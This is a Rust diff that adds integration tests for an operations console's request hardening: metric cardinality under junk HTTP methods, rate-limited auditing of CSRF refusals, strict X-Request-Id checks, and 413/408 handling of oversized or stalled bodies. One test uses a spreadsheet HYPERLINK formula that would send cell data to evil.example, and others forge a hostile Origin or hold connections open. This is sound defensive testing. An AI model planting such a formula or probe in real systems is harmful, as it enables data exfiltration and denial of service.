@@ -433,3 +433,177 @@ async fn a_login_with_other_roles_than_last_time_is_audited_as_a_role_change() {
         .collect();
     assert_eq!(changes, vec![r#"{"from":"approver","to":"admin"}"#]);
 }
+
+/// A made-up HTTP method (any client can send one) does not add a metric series.
+#[tokio::test]
+async fn made_up_methods_do_not_add_metric_series() {
+    let app = spawn_app().await;
+    for i in 0..30 {
+        let method = reqwest::Method::from_bytes(format!("JUNK{i:03}").as_bytes()).expect("method");
+        let r = app
+            .client
+            .request(method, format!("{}/healthz", app.url))
+            .send()
+            .await
+            .expect("junk");
+        assert!(
+            r.status().is_client_error() || r.status().is_success(),
+            "{}",
+            r.status()
+        );
+    }
+    let (_, text) = app.page("/metrics").await;
+    assert!(!text.contains("JUNK"), "{text}");
+    let series: Vec<&str> = text
+        .lines()
+        .filter(|l| l.starts_with("ops_console_http_request_duration_seconds_count"))
+        .collect();
+    assert!(series.iter().any(|l| l.contains("method=\"other\"")), "{series:?}");
+    assert!(series.len() <= 3, "GET and other (and their classes): {series:?}");
+}
+
+/// A flood of anonymous refusals writes at most `audited_refusals_per_minute` audit entries a
+/// minute; every refusal is still counted in /metrics, and an approval-grade write is not held up.
+#[tokio::test]
+async fn refusals_past_the_budget_are_counted_not_audited() {
+    let app = common::spawn_app_with("[http]\naudited_refusals_per_minute = 3\n").await;
+    for _ in 0..12 {
+        let r = app
+            .client
+            .post(format!("{}/auth/dev-login", app.url))
+            .header("origin", "https://evil.example")
+            .form(&[("user", "carol"), ("role", "admin")])
+            .send()
+            .await
+            .expect("csrf");
+        assert_eq!(r.status(), 403);
+    }
+    let all = app.state.store.audit_all(None).await.expect("audit");
+    let refused = all.iter().filter(|e| e.entry.action == "csrf.refused").count();
+    assert_eq!(refused, 3, "three audited, nine only counted");
+    let (_, text) = app.page("/metrics").await;
+    assert!(
+        text.contains("ops_console_refusals_total{kind=\"csrf.refused\"} 12"),
+        "{text}"
+    );
+    assert!(
+        text.contains("ops_console_refusals_unaudited_total{kind=\"csrf.refused\"} 9"),
+        "{text}"
+    );
+    // A real login is audited as ever.
+    assert_eq!(app.dev_login("bob", "approver").await.status(), 303);
+    let all = app.state.store.audit_all(None).await.expect("audit");
+    assert_eq!(all.last().map(|e| e.entry.action.as_str()), Some("login"));
+}
+
+/// `X-Request-Id` from a client is kept only when it is 1-64 letters, digits and `-`; anything
+/// else (here a spreadsheet formula) is replaced by an id the server makes.
+#[tokio::test]
+async fn a_client_request_id_is_kept_only_in_a_strict_form() {
+    let app = spawn_app().await;
+    let formula = "=HYPERLINK(\"https://evil.example/?\"&A1,\"open\")";
+    let login = |id: &'static str| {
+        app.client
+            .post(format!("{}/auth/dev-login", app.url))
+            .header("origin", &app.url)
+            .header("x-request-id", id)
+            .form(&[("user", "bob"), ("role", "viewer")])
+            .send()
+    };
+    let r = login(formula).await.expect("login");
+    assert_eq!(r.status(), 303);
+    let echoed = r
+        .headers()
+        .get("x-request-id")
+        .and_then(|v| v.to_str().ok())
+        .unwrap_or_default()
+        .to_string();
+    let r = login("trace-0042").await.expect("login 2");
+    assert_eq!(
+        r.headers().get("x-request-id").map(|v| v.as_bytes()),
+        Some(&b"trace-0042"[..])
+    );
+    let all = app.state.store.audit_all(None).await.expect("audit");
+    let ids: Vec<&str> = all.iter().map(|e| e.entry.request_id.as_str()).collect();
+    assert_eq!(ids.len(), 2, "{ids:?}");
+    assert_ne!(ids[0], formula);
+    assert_eq!(ids[0], echoed, "the server's id is the one the client was told");
+    assert!(
+        ids[0].len() == 36 && ids[0].chars().all(|c| c.is_ascii_hexdigit() || c == '-'),
+        "a server-made UUID: {}",
+        ids[0]
+    );
+    assert_eq!(ids[1], "trace-0042", "a plain id is kept for tracing");
+}
+
+/// Sends `head` and then `body` on a raw connection (and nothing more: the connection stays
+/// open) and returns the status line of the answer.
+async fn raw_request(app: &common::TestApp, head: String, body: &[u8]) -> String {
+    use tokio::io::{AsyncReadExt, AsyncWriteExt};
+    let addr = app.url.trim_start_matches("http://");
+    let mut s = tokio::net::TcpStream::connect(addr).await.expect("connect");
+    s.write_all(head.as_bytes()).await.expect("head");
+    s.write_all(body).await.expect("body");
+    let mut buf = vec![0u8; 4096];
+    // A bound on the test, not a wait for readiness: the console must answer by itself.
+    let n = tokio::time::timeout(std::time::Duration::from_secs(15), s.read(&mut buf))
+        .await
+        .expect("the console did not answer")
+        .expect("read");
+    String::from_utf8_lossy(&buf[..n])
+        .lines()
+        .next()
+        .unwrap_or_default()
+        .to_string()
+}
+
+/// A body over `http.max_body_bytes` is refused with 413 before any handler runs, whether it
+/// says its length or streams in chunks; nothing is signed in or audited.
+#[tokio::test]
+async fn oversized_bodies_are_refused_before_any_handler() {
+    let app = common::spawn_app_with("[http]\nmax_body_bytes = 4096\n").await;
+    let host = app.url.trim_start_matches("http://").to_string();
+    // By its declared length: refused before a byte of it is read.
+    let head = format!(
+        "POST /auth/dev-login HTTP/1.1\r\nHost: {host}\r\nOrigin: {}\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 100000\r\n\r\n",
+        app.url
+    );
+    let status = raw_request(&app, head, b"").await;
+    assert!(status.starts_with("HTTP/1.1 413"), "{status}");
+
+    // Chunked, without a length: refused once more than 4096 bytes have arrived (the chunks
+    // stop there, so that the console has read everything sent when it answers).
+    let big = format!("user=bob&role=admin&next=/{}", "a".repeat(5_000));
+    let mut chunked = Vec::new();
+    for piece in big.as_bytes().chunks(1000) {
+        chunked.extend(format!("{:x}\r\n", piece.len()).as_bytes());
+        chunked.extend(piece);
+        chunked.extend(b"\r\n");
+    }
+    let head = format!(
+        "POST /auth/dev-login HTTP/1.1\r\nHost: {host}\r\nOrigin: {}\r\nContent-Type: application/x-www-form-urlencoded\r\nTransfer-Encoding: chunked\r\n\r\n",
+        app.url
+    );
+    let status = raw_request(&app, head, &chunked).await;
+    assert!(status.starts_with("HTTP/1.1 413"), "{status}");
+
+    // A body within the limit still works, and it is the only login.
+    assert_eq!(app.dev_login("bob", "viewer").await.status(), 303);
+    let all = app.state.store.audit_all(None).await.expect("audit");
+    assert_eq!(all.len(), 1, "only the last login happened");
+}
+
+/// A client that sends its headers and then stops sending its body is cut off at
+/// `http.request_timeout_seconds` with 408, instead of holding a connection and a task.
+#[tokio::test]
+async fn a_body_that_never_arrives_is_cut_off_at_the_deadline() {
+    let app = common::spawn_app_with("[http]\nrequest_timeout_seconds = 1\n").await;
+    let host = app.url.trim_start_matches("http://");
+    let head = format!(
+        "POST /api/v1/session/whoami HTTP/1.1\r\nHost: {host}\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 100\r\n\r\n"
+    );
+    let started = std::time::Instant::now();
+    let status = raw_request(&app, head, b"a=1").await;
+    assert!(status.starts_with("HTTP/1.1 408"), "{status}");
+    assert!(started.elapsed() < std::time::Duration::from_secs(10));
+}
